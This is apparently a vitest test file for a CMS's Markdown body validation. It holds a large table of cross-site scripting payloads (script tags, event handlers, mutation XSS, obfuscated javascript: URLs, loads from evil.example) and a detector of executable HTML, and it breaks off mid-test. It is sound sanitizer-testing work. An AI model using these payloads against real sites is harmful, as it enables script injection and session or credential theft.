import { satteri } from '@astrojs/markdown-satteri';
import { type DefaultTreeAdapterMap, parse, parseFragment } from 'parse5';
import { beforeAll, describe, expect, it } from 'vitest';
import { createBodyRenderer } from '../../integration/astro/markdown.ts';
import type { Handler } from '../../integration/core/server/handler.ts';
import { createHandler } from '../support/handler.ts';
import { createMemoryDriver } from '../support/memory-driver.ts';
import { fetchFrom } from '../support/request.ts';
import { createServices } from '../support/services.ts';

const renderBody = createBodyRenderer({
  createRenderer: () => satteri().createRenderer({ syntaxHighlight: 'shiki' }),
  contentUrl: undefined,
});
const FEATURES = {
  ...{ math: true, headingAttributes: true, directive: true, superscript: true, subscript: true },
  ...{ wikilinks: true, definitionList: true },
};
const renderWithAllFeatures = createBodyRenderer({
  createRenderer: () =>
    satteri({ features: FEATURES }).createRenderer({
      syntaxHighlight: 'shiki',
      shikiConfig: { themes: { light: 'github-light', dark: 'github-dark' } },
    }),
  contentUrl: undefined,
});
const EDITOR = { name: 'ada', roles: ['editor'] };
const ADMINISTRATOR = { name: 'root', roles: ['administrator'] };
const DEVELOPER = { name: 'dev', roles: ['editor', 'developer'] };

const FILES = {
  'page/first.md': '---\ntitle: First\n---\nHello.\n',
  'page/trusted.md': '---\ntitle: Trusted\nsummary: Old\n---\n<script>trusted()</script>\n\nOld text.\n',
  'page/code.mdx': '---\ntitle: Code\n---\n{1 + 1}\n',
  // The images in the texts, because missing ones are rejected. Those without the extension of an image are visible already.
  'page/images.md':
    '---\ntitle: Images\n---\n![](x) ![](1) ![](<x.png"onerror="alert(1)>) ![](<x/onerror=alert(1)>)\n',
  ...Object.fromEntries(
    ['x', '1', 'x.png', 'a.png', 'x.svg', 'x.png"onerror="alert(1)', 'x/onerror=alert(1)'].map((name) => [
      `page/${name}`,
      name,
    ]),
  ),
};

async function site(render = renderBody) {
  const driver = createMemoryDriver(FILES);
  const roles = { developer: { also: ['write mdx'] } } as const;
  const handle = createHandler(
    await createServices(driver, undefined, { renderBody: render, roles, writable: {} }),
  );
  return { driver, handle };
}

let handle: Handler;
beforeAll(async () => {
  handle = (await site()).handle;
});

interface Sent {
  readonly status: number;
  readonly body: { readonly value: string; readonly processed: string; readonly format: string };
  readonly errors: readonly { readonly detail: string; readonly source?: { readonly pointer?: string } }[];
}

async function send(
  method: string,
  id: string | undefined,
  attributes: object,
  actor = EDITOR,
  to = handle,
): Promise<Sent> {
  const path = `/jsonapi/node/page${id === undefined ? '' : `/${id}`}`;
  const data = { type: 'node--page', ...(id !== undefined && { id }), attributes };
  const headers = { 'content-type': 'application/vnd.api+json' };
  const response = await fetchFrom(to, path, { method, headers, body: JSON.stringify({ data }), actor });
  const { data: resource, errors = [] } = await response.json();
  return { status: response.status, body: resource?.attributes.body, errors };
}

const create = (value: string, actor = EDITOR, to = handle) =>
  send('POST', undefined, { title: 'A page', body: { value } }, actor, to);

const POINTER = { pointer: '/data/attributes/body/value' };
const needsRawHtml = (...parts: readonly string[]) => [
  expect.objectContaining({
    detail: `This text has HTML that needs the permission \`use raw html\`: ${parts.join(', ')}. Remove it, or write it as code.`,
    source: POINTER,
  }),
];

/** Everything executable in the HTML, according to an independent parser. */
function dangers(html: string): readonly string[] {
  const dangers: string[] = [];
  const visit = (node: DefaultTreeAdapterMap['node']): void => {
    if ('tagName' in node) {
      if (CODE.has(node.tagName)) dangers.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers ignore these in URLs.
        const url = value.replace(/[\u0000-\u0020]/g, '').toLowerCase();
        const runs =
          name.startsWith('on') ||
          ['srcdoc', 'action', 'formaction', 'ping', 'http-equiv'].includes(name) ||
          /^(javascript|vbscript|livescript|mocha):/.test(url) ||
          (url.startsWith('data:') && !url.startsWith('data:image/')) ||
          (name === 'style' &&
            !/^((background-color|color|overflow-x|font-style|font-weight):[#\w]+;?)*$/.test(url));
        if (runs) dangers.push(`${name} of <${node.tagName}>`);
      }
    }
    if ('content' in node) visit(node.content);
    if ('childNodes' in node) node.childNodes.forEach(visit);
  };
  visit(parseFragment(html));
  visit(parse(`<!doctype html><html><head></head><body><main>${html}</main></body></html>`));
  return dangers.filter((each) => !['<html>', '<head>', '<body>'].includes(each));
}

const CODE = new Set([
  ...[
    'script',
    'style',
    'iframe',
    'frame',
    'frameset',
    'object',
    'embed',
    'applet',
    'form',
    'base',
    'meta',
    'link',
  ],
  ...[
    'svg',
    'math',
    'template',
    'noscript',
    'portal',
    'xmp',
    'plaintext',
    'textarea',
    'select',
    'title',
    'animate',
  ],
]);

const PAYLOADS: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a script within a sentence': 'Hi <script>alert(1)</script> there',
  'a script with odd case and spaces': '<ScRiPt  src = //evil.example/x.js ></sCrIpT\t>',
  'a script after a slash': '<script/src=//evil.example/x.js></script>',
  'an unclosed script': '<script src=//evil.example/x.js\n\nmore text',
  'a script over blank lines': '<script>\n\nalert(1)\n\n</script>\n\nafter',
  'a script in a list': '- one\n- <script>alert(1)</script>\n\n  <script>\n  alert(1)\n  </script>',
  'a script in a quote': '> <script>\n> alert(1)\n> </script>',
  'a script in a table': '| a | b |\n| - | - |\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |',
  'a script in a heading': '# <script>alert(1)</script>\n\n<script>alert(1)</script>\n===',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a script in a removed tag': '<<x>script>alert(1)<</x>/script>',
  'a script between removed tags': '<scr<object></object>ipt>alert(1)</script>',
  'a script in a footnote': 'x[^1]\n\n[^1]: <script>alert(1)</script>',
  'a script after a form feed': '<\u000cscript>alert(1)</script><script\u000c>alert(1)</script>',
  'a script after NUL': '<scr\u0000ipt>alert(1)</scr\u0000ipt><\u0000script>alert(1)</script>',
  'a script after a byte order mark': '\ufeff<script>alert(1)</script>',
  'a script in a link text': '[<script>alert(1)</script>](https://site.example)',
  'a script in the alternative text of an image': '![<script>alert(1)</script>](x.png)',
  'a handler': '<img src=x onerror=alert(1)>',
  'a handler without spaces': '<img/src=x/onerror=alert(1)>',
  'a handler after quotes': '<img src="x"onerror="alert(1)">',
  'a handler in odd case': '<IMG SRC=x OnErRoR="alert(1)">',
  'a handler over lines': 'a <b\n  onclick="alert(1)"\n  title=x>b</b>',
  'a handler over several lines of a quote': '> a <b\n> onclick="alert(1)\n> alert(2)">b</b>',
  'a handler over several lines of a block': '<div\n  onmouseover="alert(1)"\n>\n\nx\n\n</div>',
  'a handler given twice': '<img src=x onerror=1 onerror=alert(1)>',
  'a handler hidden in another value': '<img alt="`><img src=x onerror=alert(1)>" src=x>',
  'a handler with a backtick': '<img src=x alt=`<img onerror=alert(1)`>',
  'a handler on an unclosed tag': '<div onclick=alert(1)\n\ntext <b',
  'a handler on a tag that ends the text': 'text <img src=x onerror=alert(1) ',
  'a handler on an unknown element': '<x onclick=alert(1)>x</x>',
  'a handler on a custom element': '<x-y onfocus=alert(1) tabindex=1 autofocus>x</x-y>',
  'a handler on details': '<details open ontoggle=alert(1)><summary>x</summary></details>',
  'a handler on a video': '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  'a handler on a closing tag': '<b>x</b onclick=alert(1)>',
  'a handler on body': '<body onload=alert(1)>x</body>',
  'a handler on input': '<input autofocus onfocus=alert(1)>',
  'a handler on marquee': '<marquee onstart=alert(1)>x</marquee>',
  'svg that loads': '<svg onload=alert(1)>',
  'svg with a script': '<svg><script>alert(1)</script></svg>',
  'svg with a script of entities': '<svg><script>&#97;lert(1)</script></svg>',
  'svg that animates a URL':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  'svg that sets a handler': '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  'svg that uses': '<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x" /></svg>',
  'svg with a foreign object': '<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
  'svg over blank lines': '<svg>\n\n<script>alert(1)</script>\n\n</svg>',
  'mutation through math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation through svg': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation through noscript': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'mutation through a template':
    '<template><s><template><s><img src=x onerror=alert(1)>@</s></template></s></template>',
  'mutation through xmp': '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  'mutation through textarea': '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  'mutation through a title': '<title><a title="</title><img src=x onerror=alert(1)>">',
  'mutation through a select':
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
  'mutation through a nested form':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation through plaintext': '<plaintext><img src=x onerror=alert(1)>',
  'mutation through an attribute': '<a title="&quot;&gt;<img src=x onerror=alert(1)>">x</a>',
  'a frame': '<iframe src=javascript:alert(1)></iframe>',
  'a frame with a document': '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  'an unclosed frame': '<iframe src=//evil.example\n\nx',
  'an object': '<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>',
  'a style': '<style>@import "//evil.example/x.css";</style>',
  'a style attribute': '<p style="position:fixed;inset:0;background:url(//evil.example)">x</p>',
  'a style that is a script': '<div style="width:expression(alert(1))">x</div>',
  'a refresh': '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  'a base': '<base href=//evil.example/>',
  'a stylesheet': '<link rel=stylesheet href=//evil.example/x.css>',
  'a form': '<form action=//evil.example><button>Sign in</button></form>',
  'an address of a button':
    '<button formaction=javascript:alert(1)>x</button><input type=image formaction=javascript:1>',
  'a ping': '<a href=/x ping=//evil.example>x</a>',
  'an address that is code': '<a href="javascript:alert(1)">x</a>',
  'a javascript: URL in odd case': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'a javascript: URL with entities': '<a href="&#106;&#x61;vascript&colon;alert(1)">x</a>',
  'a javascript: URL with long entities': '<a href="&#0000106avascript&#x3a;alert(1)">x</a>',
  'a javascript: URL with a tab': '<a href="java\tscript:alert(1)">x</a>',
  'a javascript: URL with a line break': '<a href="java\nscript:alert(1)">x</a>',
  'a javascript: URL with an entity for a tab': '<a href="jav&Tab;ascript&NewLine;:alert(1)">x</a>',
  'a javascript: URL after a control character':
    '<a href="\u0001javascript:alert(1)">x</a><a href=" javascript:alert(1)">x</a>',
  'a vbscript: URL': '<a href="vbscript:msgbox(1)">x</a>',
  'a data: URL of a page': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a data: URL of an svg': '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
  'a video that is a page': '<video src="data:text/html,<script>alert(1)</script>"></video>',
  'an svg URL in xlink': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'an address of math': '<math href="javascript:alert(1)">x</math>',
  'a link': '[x](javascript:alert(1))',
  'a link in odd case': '[x](JAVASCRIPT:alert(1))',
  'a link with entities': '[x](&#x6A;avascript&colon;alert&lpar;1&rpar;)',
  'a link with escapes': '[x](javascript\\:alert\\(1\\))',
  'a link with an entity for a tab': '[x](java&Tab;script:alert(1)) [y](java&NewLine;script:alert(1))',
  'a link in angle brackets':
    '[x](<javascript:alert(1)>) [y](<java\tscript:alert(1)>) [z](< javascript:alert(1)>)',
  'a link with a title': '[x](javascript:alert(1) "title")',
  'a link with a title that breaks out':
    '[x](/a "\\"onmouseover=alert(1) x=\\"") [y](/a\'onclick=alert(1)//)',
  'a link to a page': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  'a link to vbscript': '[x](vbscript:msgbox(1))',
  'a link around an image': '[![x](x.png)](javascript:alert(1)) [![x](javascript:alert(1))](/y)',
  'a link in removed tags':
    '<object>[x](javascript:alert(1))</object>\n\n<form>\n[x](javascript:alert(1))\n</form>',
  'an image': '![x](javascript:alert(1)) ![x](data:text/html,x)',
  'an image that breaks out': '![x" onerror="alert(1)](x.png) ![x](x.png"onerror="alert(1))',
  'a definition': '[x][a] ![y][a]\n\n[a]: javascript:alert(1)',
  'a definition over lines': '[x]\n\n[x]:\n  <javascript:alert(1)>\n  "t"',
  'a definition in a quote': '[x]\n\n> [x]: java&#115;cript:alert(1)',
  'an image definition as a link': '[x][a]\n\n[a]: data:image/svg+xml,x',
  'an autolink': '<javascript:alert(1)>',
  'an autolink in odd case': '<JavaScript:alert(1)> <data:text/html,x> <vbscript:x>',
  'a bare address':
    'javascript:alert(1) www.x.example/"onmouseover="alert(1) https://x.example/<script>alert(1)</script>',
  'a comment that ends early': '<!--><img src=x onerror=alert(1)>-->',
  'a comment that ends early with a dash': '<!---><img src=x onerror=alert(1)>-->',
  'a comment that ends oddly': '<!-- x --!><img src=x onerror=alert(1)> -->',
  'an unclosed comment': '<!-- x\n\n<img src=x onerror=alert(1)>',
  'a conditional comment':
    '<!--[if IE]><script>alert(1)</script><![endif]-->\n\n<![if !IE]><script>alert(1)</script><![endif]>',
  'character data': '<![CDATA[<script>alert(1)</script>]]>',
  'CDATA that ends early': '<![CDATA[ > <img src=x onerror=alert(1)> ]]>',
  'an instruction': '<?xml-stylesheet href="javascript:alert(1)"?><?x ><img src=x onerror=alert(1)> ?>',
  'a declaration': '<!DOCTYPE x [<!ENTITY y "<script>">]><!X <img src=x onerror=alert(1)>>',
  'a closing tag that is a comment': '</ <img src=x onerror=alert(1)>>',
  'entities of markup': '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  'markup after escapes': '\\<script>alert(1)\\</script> \\\\<img src=x onerror=alert(1)>',
  'code that ends early': '```\ncode\n```\n<script>alert(1)</script>\n\n``a`<img src=x onerror=alert(1)>`',
  'a code fence whose language breaks out':
    '```js"><script>alert(1)</script>\nx\n```\n\n~~~x" onclick="alert(1)\nx\n~~~',
  'a data attribute':
    '<p data-hx-on="alert(1)" hx-on:click="alert(1)" x-data="alert(1)" @click="alert(1)">x</p>',
  'expressions of MDX': 'import x from "y"\n\n{alert(1)} <X onClick={alert(1)} />',
};

/** Payloads that the renderer turns into text or harmless attributes. */
const HARMLESS: ReadonlySet<string> = new Set([
  'a script in the alternative text of an image',
  'a handler without spaces',
  'a handler after quotes',
  'a handler hidden in another value',
  'a handler with a backtick',
  'a handler on a tag that ends the text',
  'mutation through an attribute',
  'a ping',
  'a link with a title that breaks out',
  'an image that breaks out',
  'a code fence whose language breaks out',
  'a declaration',
  'entities of markup',
]);

describe('a body by an editor without `use raw html`', () => {
  it.each(Object.entries(PAYLOADS))('cannot run code: %s', async (name, value) => {
    const { status, body, errors } = await create(value);
    if (HARMLESS.has(name)) {
      expect([status, body.value.trimEnd()]).toEqual([201, value.trimEnd()]);
      expect(dangers(body.processed)).toEqual([]);
    } else {
      expect(status).toBe(422);
      expect(errors[0]).toMatchObject({
        detail: expect.stringContaining('needs the permission `use raw html`: '),
        source: POINTER,
      });
    }
  });

  it.each(Object.entries(PAYLOADS).filter(([name]) => !HARMLESS.has(name)))(
    'is rejected after an element that parsers ignore in a page: %s',
    async (_name, value) => {
      const { status, errors } = await create(`<col>\n\n${value}`);
      expect(status).toBe(422);
      expect(errors[0]?.detail).toContain('misplaced <col>');
    },
  );

  it('is tested with payloads that mostly run without sanitizing', async () => {
    const { handle: open } = await site();
    let running = 0;
    for (const value of Object.values(PAYLOADS)) {
      const attributes = { title: 'A page', body: { value } };
      const { body } = await send('POST', undefined, attributes, ADMINISTRATOR, open);
      expect(body.value.trimEnd()).toBe(value.trimEnd());
      if (dangers(body.processed).length > 0) running += 1;
    }
    expect(running).toBeGreaterThan(80);
  });

  it.each([
    ['a comparison', 'If a < b and b > c, then a<c & so on: 3 <4, a<=b, x< y >z.'],
    ['autolinks', 'See <https://site.example/?a=1&b=2>, <mailto:a@site.example> and www.site.example.'],
    ['code', 'Write `<script>alert(1)</script>` or ``<a href="javascript:x">``.'],
    [
      'fences',
      '```html\n<script>alert(1)</script>\n<img onerror=x>\n```\n\n~~~\n[x](javascript:alert(1))\n~~~',
    ],
    ['indented code', 'Text:\n\n    <script>alert(1)</script>\n\tand <b onclick=x>'],
    ['words of HTML', 'The attributes onclick= and style="x", javascript: and data: are words.'],
    ['entities', '&lt;script&gt; &amp; &copy; &#8212; &nbsp;'],
    ['escapes', '\\<script> \\[x](javascript:alert(1))'],
    [
      'inline tags',
      'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, <mark class="x">so</mark><br>and<br />so.',
    ],
    ['a block', '<details open>\n<summary>More</summary>\n\n*Text* with **marks**.\n\n</details>'],
    [
      'a figure',
      '<figure class="wide" id="f1">\n  <img src="./a.png" alt="A" width=300 loading="lazy">\n  <figcaption>A &amp; B</figcaption>\n</figure>',
    ],
    ['a table of HTML', '<table>\n<tr><th scope="row" colspan=2>x</th><td align=left>y</td></tr>\n</table>'],
    ['a comment', 'Intro.\n\n<!-- more -->\n\nText <!-- note: <b>old</b> - new --> on.'],
    [
      'links',
      '[a](/b) [c](../d.md "T") [e](<f g>) [h](#i) [j](?k=l:m) [n](https://x.example/(y)) [m](mailto:a@b.example)',
    ],
    ['images', '![a](a.png) ![b](data:image/png;base64,iVBORw0KGgo=) ![c][d]\n\n[d]: /e.svg "f"'],
    ['lists and tasks', '1. one\n   - [ ] two\n   - [x] three\n\n* * *\n'],
    ['tables, notes and strikes', '| a | b |\n| :- | -: |\n| ~~c~~ | d[^1] |\n\n[^1]: e'],
    ['Windows lines', '# A\r\n\r\nb <b>c</b>\r\n\r\n```\r\n<script>\r\n```\r\n'],
    ['odd spaces', '  # A\n\n\n\ntext  \nbreak\\\nbreak\u00a0\u200b\n\n\n'],
    ['arrows and hearts', 'a <- b <-> c -> d <3 <= >= << >>'],
    ['other URL schemes', '[tel](tel:+123) <xmpp:a@b.example> [magnet](magnet:?xt=x) [page](a/b:c)'],
    ['a video', '<video src="/a.mp4" controls poster="/a.jpg"><track src="/a.vtt" kind="captions"></video>'],
    ['HTML in a quote', '> <div align="center">\n>\n> text <i>x</i>\n>\n> </div>'],
    ['placeholders', 'Run `npm i <name>` and replace {name}, $x and %s.'],
  ])('is stored byte for byte if it is harmless: %s', async (_name, value) => {
    const { status, body } = await create(value);
    expect(status).toBe(201);
    expect(body.value.trimEnd()).toBe(value.trimEnd());
  });

  it.each([
    ['a <script>b()</script> c', ['<script>']],
    ['<b onclick="x" title="y">z</b>', ['onclick of <b>']],
    ['> a <b\n> onclick="x\n> y" title=z>b</b>', ['onclick of <b>']],
    ['[a](javascript:b "c")', ['"javascript:b" in href of <a>']],
    ['<javascript:a> and <form>b</form>', ['"javascript:a" in href of <a>', '<form>']],
    ['<p style="position: fixed">x</p>', ['"position: fixed" in style of <p>']],
    ['<input type="password">', ['type of <input>']],
    ['<svg xlink:href="#x"></svg>', ['xlink:href of <svg>']],
  ])('is rejected with a 422 that lists everything that is not allowed: %j', async (value, parts) => {
    const { status, errors } = await create(value);
    expect(status).toBe(422);
    expect(errors).toEqual(needsRawHtml(...parts));
  });

  it('is rejected with names of at most a hundred characters', async () => {
    const { errors } = await create(`<x${'y'.repeat(5000)}>`);
    expect(errors[0]?.detail).toContain(`<x${'y'.repeat(98)}…`);
    expect(errors[0]?.detail.length).toBeLessThan(500);
  });

  it('is rejected with at most ten names', async () => {
    const { errors } = await create(
      Array.from({ length: 20 }, (_, index) => `<x${index}></x${index}>`).join(' '),
    );
    expect(errors).toEqual(needsRawHtml(...Array.from({ length: 10 }, (_, index) => `<x${index}>`)));
  });

  it.each([
    ['title: "Code"', '```html title="a"\n<script>alert(1)</script>\n```\n\n```diff\n- a\n+ b\n```'],
    [
      'languages',
      ['js', 'html', 'css', 'python', 'rust', 'sh', 'json', 'md']
        .map((name) => `\`\`\`${name}\n<a onclick="x"> # y\n\`\`\``)
        .join('\n\n'),
    ],
    ['formulas', 'Euler: $e^{i\\pi} < 1$\n\n$$\n\\frac{a}{b}\n$$'],
    ['headings', '# Two tides {#two .wide}\n\n## Moon\n\n### <a name="old"></a>Old anchor'],
    ['definitions, notes and links', 'Term\n: Meaning\n\n:::note\nText.\n:::\n\n[[Page]] H~2~O x^2^'],
    ['tables', '| a | b |\n| :- | -: |\n| c[^1] | <kbd>d</kbd> |\n\n[^1]: e\n\n- [x] done'],
    [
      'icons',
      '<svg viewBox="0 0 1 1" aria-hidden="true"><title>Sun</title><path d="M0 0" fill="none"/></svg>',
    ],
  ])('may use all features of the renderer: %s', async (_name, value) => {
    const { handle: to } = await site(renderWithAllFeatures);
    const { status, body, errors } = await create(value, EDITOR, to);
    expect([status, errors]).toEqual([201, []]);
    expect(body.value.trimEnd()).toBe(value);
  });
});

describe('a body that the renderer reads differently from CommonMark', () => {
  const IMAGE = '<img src=x onerror=alert(1)>';
  it.each([
    ['an unquoted value with a `=`', 'a <img src=/x onerror=alert(1)=1> c', undefined],
    ['a definition with NUL', '[a]: \0<script>alert(1)</script>', '<script>'],
    ['an address with NUL', 'www.e.x\0[x](javascript:alert(1))', '"javascript:alert(1)" in href of <a>'],
    ['a fence in front matter', `---\n\`\`\`\n---\n${IMAGE}\n\n\`\`\``, undefined],
    ['a fence in TOML front matter', `+++\n\`\`\`\n+++\n${IMAGE}\n\n\`\`\``, undefined],
    ['HTML in front matter', `---\n<div>${IMAGE}</div>\n---\n\ntext`, 'onerror of <img>'],
    ['HTML in TOML front matter', `+++\n<script>alert(1)</script>\n+++\n\ntext`, '<script>'],
    ['HTML in front matter after a byte order mark', `\ufeff---\n${IMAGE}\n---\n`, 'onerror of <img>'],
  ])('is rejected or harmless: %s', async (_name, value, part) => {
    for (const prefix of ['', '<col>\n\n']) {
      const { status, body, errors } = await create(prefix + value);
      if (part === undefined && prefix === '') {
        expect(status).toBe(201);
        expect(dangers(body.processed)).toEqual([]);
      } else {
        expect([status, errors[0]?.detail]).toEqual([
          422,
          expect.stringContaining(part ?? 'misplaced <col>'),
        ]);
      }
    }
  });

  it.each([
    ['# x {#id onclick=alert(1)}', 'onclick of <h1>'],
    ['# x {#id style="position:fixed"}', '"position:fixed" in style of <h1>'],
    ['# x {data-action=x}', 'data-action of <h1>'],
    ['[[javascript:alert(1)]]', '"javascript:alert(1)" in href of <a>'],
    ['x ^<img src=x onerror=alert(1)>^', 'onerror of <img>'],
    ['Term\n: <script>alert(1)</script>', '<script>'],
  ])('is rejected with all features of the renderer: %j', async (value, part) => {
    const { handle: to } = await site(renderWithAllFeatures);
    const { status, errors } = await create(value, EDITOR, to);
    expect(status).toBe(422);
    expect(errors).toEqual(needsRawHtml(part));
  });
});

describe('a body that changes the page around it', () => {
  it.each([
    ['<body onload=alert(1)>', '<body>'],
    ['text <html onclick=alert(1)>', '<html>'],
    ['<head><b>x</b>', '<head>'],
    ['<frameset onload=alert(1)><frame src=//evil.example></frameset>', '<frameset>'],
    ['<td>x</td>', 'misplaced <td>'],
    ['x <tr> y', 'misplaced <tr>'],
    ['</div></main>', '</div> without <div>'],
    ['x </section>', '</section> without <section>'],
    ['</body></html>', '</body> without <body>'],
    ['<div title="', 'a tag or comment without its end'],
    ['<div class="x"', 'a tag or comment without its end'],
    ['<b title="\n\nx', undefined],
    ['<!-- x', 'a tag or comment without its end'],
    ['<div>\n\nx', '<div> without </div>'],
    ['<details><summary>x</summary>', '<details> without </details>'],
    ['a <a href="https://evil.example">b', '<a> without </a>'],
    ['<table><tr><td>x', '<table> without </table>'],
    ['<table>', '<table> without </table>'],
    ['<svg>', '<svg> without </svg>'],
    ['<div><hr><x-end>\n</x-end>\n</div><div title="', '<x-end>'],
  ])('is rejected: %j', async (value, part) => {
    const { status, errors } = await create(value);
    if (part === undefined) expect(status).toBe(201);
    else expect([status, errors[0]?.detail]).toEqual([422, expect.stringContaining(part)]);
  });

  it.each([
    ['<p>One<p>Two', '<p> closes itself'],
    ['<ul><li>One<li>Two</ul>', 'list items close themselves'],
    ['<table><tr><td>a<td>b<tr><td>c</table>', 'and cells'],
    ['text <div>block</div> text', 'a block in a paragraph'],
    ['**bold <b>both** more</b>', 'overlapping formatting'],
    ['line<br>line</br>line', 'a closed line break'],
    ['</p>', 'an unopened paragraph'],
  ])('is accepted if it does not: %j, because of %s', async (value) => {
    const { status, errors } = await create(value);
    expect([status, errors]).toEqual([201, []]);
  });
});

describe('a body that could cover the page with a link', () => {
  const svg = (attributes: string) => `<svg ${attributes}><rect width="9" height="9"></rect></svg>`;
  const math = (tag: string, attributes: string) => `<math><${tag} ${attributes}></${tag}></math>`;
  it.each([
    [svg('transform="scale(60)"'), 'transform of <svg>'],
    [`<svg>${svg('transform="scale(60)"')}</svg>`, 'transform of <svg>'],
    [math('mpadded', 'voffset="-90em"'), 'voffset of <mpadded>'],
    [math('mpadded', 'height="0"'), '"0" in height of <mpadded>'],
    [math('mpadded', 'depth="0em"'), '"0em" in depth of <mpadded>'],
    [math('mpadded', 'width="0px"'), '"0px" in width of <mpadded>'],
    [math('mpadded', 'height="-9em"'), '"-9em" in height of <mpadded>'],
    [math('mrow', 'height="9em"'), 'height of <mrow>'],
    [math('mi', 'mathsize="9999px"'), '"9999px" in mathsize of <mi>'],
    [math('mi', 'mathsize="201%"'), '"201%" in mathsize of <mi>'],
    [math('mo', 'lspace="-99em"'), '"-99em" in lspace of <mo>'],
    [math('mo', 'rspace="-1em"'), '"-1em" in rspace of <mo>'],
    [math('mo', 'minsize="999em"'), '"999em" in minsize of <mo>'],
    [math('mo', 'maxsize="999em"'), '"999em" in maxsize of <mo>'],
    [math('mfrac', 'linethickness="9999px"'), '"9999px" in linethickness of <mfrac>'],
    [math('mspace', 'width="9999px"'), '"9999px" in width of <mspace>'],
    [math('mtable', 'rowspacing="0.1em 999em"'), '"0.1em 999em" in rowspacing of <mtable>'],
    [math('mstyle', 'scriptlevel="-20"'), '"-20" in scriptlevel of <mstyle>'],
    ['<div style="height:0px">x</div>', '"height:0px" in style of <div>'],
    ['<p style="max-height: 1em">x</p>', '"max-height: 1em" in style of <p>'],
    ['<a href="/" style="padding:9em">x</a>', '"padding:9em" in style of <a>'],
    ['<a href="/" style="padding:1px 99px">x</a>', '"padding:1px 99px" in style of <a>'],
    ['<a href="/" style="border-width:9999px">x</a>', '"border-width:9999px" in style of <a>'],
    ['<a href="/" style="border: 99px solid red">x</a>', '"border: 99px solid red" in style of <a>'],
    ['<b style="font-size:49px">x</b>', '"font-size:49px" in style of <b>'],
    ['<b style="background: url(/x)">x</b>', '"background: url(/x)" in style of <b>'],
    ['<pre style="overflow-x:visible">x</pre>', '"overflow-x:visible" in style of <pre>'],
    ['<b style="line-height:0">x</b>', '"line-height:0" in style of <b>'],
  ])('is rejected: %s', async (value, part) => {
    const { status, errors } = await create(value);
    expect([status, errors]).toEqual([422, needsRawHtml(part.replace(/^"(.{40}).+"/, '"$1…"'))]);
  });

  it.each(['opener', 'noopener OPENER', 'x'])('is rejected with a link of the relation %j', async (rel) => {
    const { errors } = await create(`<a href="/" rel="${rel}">x</a>`);
    expect(errors).toEqual(needsRawHtml(`${JSON.stringify(rel)} in rel of <a>`));
  });

  it('is rejected with a link into a named window, which could navigate this one', async () => {
    const { errors } = await create('<a href="/" target="other">x</a>');
    expect(errors).toEqual(needsRawHtml('"other" in target of <a>'));
  });

  it.each([
    '<svg viewBox="0 0 9 9"><g transform="scale(2)"><text font-size="9" font-family="serif" font-weight="700" text-anchor="middle" dominant-baseline="central" transform="rotate(9)">x</text></g></svg>',
    '<math><mspace width="1em"></mspace><mspace width="-0.1667em"></mspace><mspace width="thickmathspace"></mspace></math>',
    '<math><mstyle mathsize="2.074em" scriptlevel="0"><mo minsize="1.2em" maxsize="150%" lspace="0.22em" rspace="0">(</mo></mstyle></math>',
    '<math><mfrac linethickness="0px"><mi>n</mi><mi>k</mi></mfrac><mfrac linethickness="0.04em"><mi>n</mi><mi>k</mi></mfrac></math>',
    '<math><mpadded width="+6pt" height="+6pt"><mtable width="100%" rowspacing="0.16em" columnspacing="1em 0em"></mtable></mpadded></math>',
    '<span style="height:1.2em;vertical-align:-0.35em"></span><img src="/1" style="max-height: 20px">',
    '<table bgcolor="#eee"><tr bgcolor="red" style="height:2em"><td bgcolor="blue">x</td></tr></table>',
    '<a href="/" rel="noopener Nofollow me" target="_blank">x</a>',
    '<progress value="1" max="2"></progress> <meter min="0" max="9" value="3">3</meter>',
    '<menu><li>x</li></menu>\n\n<search>x</search>',
    '<acronym title="x">y</acronym> <nobr>a b</nobr> <font color="red" size="+2" face="Arial">x</font>',
    '<p style="font-size: 3em; background: #ffe; padding: 4px 1em; border: 1px solid #ccc; border-radius: 8px">x</p>',
    `<p style="font-size:48px;font-family:Georgia, 'Times New Roman', serif;padding-top:0.5em">x</p>`,
  ])('is accepted if it cannot: %s', async (value) => {
    const { status, errors } = await create(value);
    expect([status, errors]).toEqual([201, []]);
  });

  it.each(['iframe', 'form', 'dialog', 'video autoplay'])(
    'is rejected regardless of style: <%s>',
    async (tag) => {
      expect((await create(`<${tag}></${tag.split(' ')[0]}>`)).status).toBe(422);
    },
  );
});

describe("Astro's image token", () => {
  const JSON_OF_TAG = '{&quot;\\u003cimg src=x onerror=alert(1)\\u003e&quot;:1}';
  it.each([
    `<div>\n__ASTRO_IMAGE_="${JSON_OF_TAG}"\n</div>`,
    `<col>\n\n<div>\n__ASTRO_IMAGE_="${JSON_OF_TAG}"\n</div>`,
